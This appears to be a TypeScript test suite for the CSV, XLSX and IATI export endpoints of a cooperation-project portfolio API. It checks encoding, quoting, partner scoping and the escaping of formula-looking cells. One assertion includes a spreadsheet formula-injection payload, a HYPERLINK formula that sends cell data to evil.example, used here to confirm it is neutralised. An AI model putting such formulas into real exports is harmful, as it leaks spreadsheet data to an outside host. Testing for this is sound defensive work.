import ExcelJS from 'exceljs';
import { randomUUID } from 'node:crypto';
import { TestApp } from './support/test-app';
import { binary } from './support/binary';
import { csvObjects, csvRows } from './support/csv';
import { signedIn, newOrganisation, SignedInAgent } from './support/factories';
import { exportPortfolio, HOSTILE } from './support/export-portfolio';

describe('exports: CSV tables and partner scoping', () => {
  let t: TestApp;
  let director: SignedInAgent;
  let partner: SignedInAgent;
  let ownCode: string;
  let otherCode: string;
  let ownId: string;
  let otherId: string;
  let run: string;

  beforeAll(async () => {
    ({ t, director, partner, ownCode, otherCode, ownId, otherId, run } = await exportPortfolio());
  });
  afterAll(() => t.close());

  describe('CSV', () => {
    it('is UTF-8 with BOM, RFC 4180-quoted, and escapes every formula-looking cell', async () => {
      const res = await director.get(`/api/v1/exports/actions.csv?q=${ownCode}`).expect(200);
      expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(res.headers['content-disposition']).toMatch(
        /^attachment; filename="coopera-actions-\d{4}-\d{2}-\d{2}\.csv"$/,
      );
      expect(res.headers['cache-control']).toBe('no-store');
      expect(res.text.charCodeAt(0)).toBe(0xfeff);
      const rows = csvRows(res.text.slice(1));
      expect(rows[0]).toContain('notes'); // staff and directors get internal fields
      const [row] = csvObjects(res.text.slice(1));
      expect(row).toMatchObject({
        code: ownCode,
        title_es: `'${HOSTILE.plus}`,
        summary_es: "'-2",
        unit: "'\tx",
        title_en: 'Electric route, "Peribús"\nsecond line',
        themes: 'movilidad; cambio-climatico; genero',
        sdgs: '11; 13',
        actual_start: '2019-01-14',
        notes: 'NOTA-INTERNA-SECRETA',
      });
      // Escaped cells are quoted, quotes doubled, and the raw text never starts a field.
      expect(res.text).toContain(`"'${HOSTILE.plus}"`);
      expect(res.text).toContain('"Electric route, ""Peribús""\nsecond line"');
      expect(res.text).toMatch(/\r\n$/);
    });

    it('escapes hostile organisation names and milestone titles; money stays a plain decimal', async () => {
      const parts = await director
        .get(`/api/v1/exports/participations.csv?q=${ownCode}`)
        .expect(200);
      const prow = csvObjects(parts.text.slice(1));
      expect(prow.map((r) => r['organisation'])).toContain(`'${HOSTILE.hyperlink}`);
      expect(prow.map((r) => r['organisation_acronym'])).toContain(`'${HOSTILE.at}`);
      expect(parts.text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""clic"")"`);

      const ms = await director.get(`/api/v1/exports/milestones.csv?q=${ownCode}`).expect(200);
      const titles = csvObjects(ms.text.slice(1)).map((r) => r['title']);
      expect(titles.sort()).toEqual([`'${HOSTILE.cr}`, `'${HOSTILE.at}`].sort());

      const money = await director.get(`/api/v1/exports/funding.csv?q=${ownCode}`).expect(200);
      const frows = csvObjects(money.text.slice(1));
      expect(frows).toEqual(
        expect.arrayContaining([
          expect.objectContaining({
            type: 'ceiling',
            amount: '16187025.00',
            currency: 'MXN',
            value_date: '2019-01-14',
          }),
          expect.objectContaining({ type: 'commitment', amount: '1000000.50', currency: 'EUR' }),
          expect.objectContaining({ type: 'prize', amount: '361000.00', currency: '' }),
        ]),
      );
      // No cell of any export starts with a formula character.
      for (const table of [
        'actions',
        'participations',
        'funding',
        'milestones',
        'results',
        'indicators',
      ]) {
        const res = await director.get(`/api/v1/exports/${table}.csv?q=${ownCode}`).expect(200);
        for (const r of csvRows(res.text.slice(1)))
          for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      }
    });

    it('validates the filters like the action list (unknown parameters are rejected)', async () => {
      const res = await director.get('/api/v1/exports/actions.csv?status=nope&evil=1').expect(400);
      expect(res.body.code).toBe('VALIDATION_FAILED');
      const bad = await director.get('/api/v1/exports/actions.csv?id=not-a-uuid').expect(400);
      expect(bad.body.code).toBe('VALIDATION_FAILED');
    });

    it('exports exactly one action’s tables with ?id= (and never one a partner may not see)', async () => {
      const csv = await director.get(`/api/v1/exports/funding.csv?id=${ownId}`).expect(200);
      const rows = csvRows(csv.text.replace(/^\uFEFF/, ''));
      expect(rows.length).toBeGreaterThan(1);
      const codeColumn = rows[0].indexOf('action_code');
      expect(new Set(rows.slice(1).map((r) => r[codeColumn]))).toEqual(new Set([ownCode]));
      const both = await director
        .get(`/api/v1/exports/actions.csv?id=${ownId}&id=${otherId}`)
        .expect(200);
      expect(csvRows(both.text.replace(/^\uFEFF/, '')).length).toBe(3);
      const hidden = await partner.get(`/api/v1/exports/actions.csv?id=${otherId}`).expect(200);
      expect(csvRows(hidden.text.replace(/^\uFEFF/, ''))).toHaveLength(1);
    });
  });

  describe('partner scoping', () => {
    it('every list export holds only the actions the partner’s organisation takes part in, without internal fields', async () => {
      const q = `q=EXP-${run}`;
      for (const table of [
        'actions',
        'participations',
        'funding',
        'milestones',
        'results',
        'indicators',
      ]) {
        const all = await director.get(`/api/v1/exports/${table}.csv?${q}`).expect(200);
        const mine = await partner.get(`/api/v1/exports/${table}.csv?${q}`).expect(200);
        const codes = (text: string) =>
          new Set(csvObjects(text.slice(1)).map((r) => r['code'] ?? r['action_code']));
        expect([...codes(all.text)].sort()).toEqual([otherCode, ownCode].sort());
        expect([...codes(mine.text)]).toEqual([ownCode]);
        expect(mine.text).not.toContain('NOTA-INTERNA-SECRETA');
        expect(mine.text).not.toContain('PARTICIPACION-INTERNA');
        if (table === 'actions' || table === 'participations')
          expect(csvRows(mine.text.slice(1))[0]).not.toContain('notes');
      }
      const xlsx = await partner
        .get(`/api/v1/exports/portfolio.xlsx?${q}`)
        .buffer(true)
        .parse(binary)
        .expect(200);
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.load(xlsx.body as ArrayBuffer);
      const seen = new Set<unknown>();
      wb.eachSheet((ws) => ws.eachRow((r, n) => n > 1 && seen.add(r.getCell(1).value)));
      expect([...seen]).toEqual([ownCode]);
      expect(JSON.stringify(wb.worksheets.map((w) => w.getSheetValues()))).not.toContain(
        'NOTA-INTERNA',
      );

      const iati = await partner.get(`/api/v1/exports/iati.xml?${q}`).expect(200);
      expect(iati.text).toContain(`-${ownCode}</iati-identifier>`);
      expect(iati.text).not.toContain(otherCode);
    });

    it('single-action exports answer 404 for actions the partner may not see', async () => {
      for (const path of ['export/iati.xml', 'export/sheet.pdf']) {
        const res = await partner.get(`/api/v1/actions/${otherId}/${path}`).expect(404);
        expect(res.body.code).toBe('ACTION_NOT_FOUND');
        await partner.get(`/api/v1/actions/${ownId}/${path}`).expect(200);
      }
      await partner.get(`/api/v1/actions/${randomUUID()}/export/sheet.pdf`).expect(404);
    });

    it('a partner with no actions gets header-only CSVs and 422 for IATI', async () => {
      const lonely = await signedIn(t, 'partner', { organisationId: await newOrganisation(t.db) });
      const res = await lonely.get('/api/v1/exports/actions.csv').expect(200);
      expect(csvRows(res.text.slice(1))).toHaveLength(1);
      const iati = await lonely.get('/api/v1/exports/iati.xml').expect(422);
      expect(iati.body.code).toBe('IATI_NOTHING_TO_EXPORT');
    });
  });
});
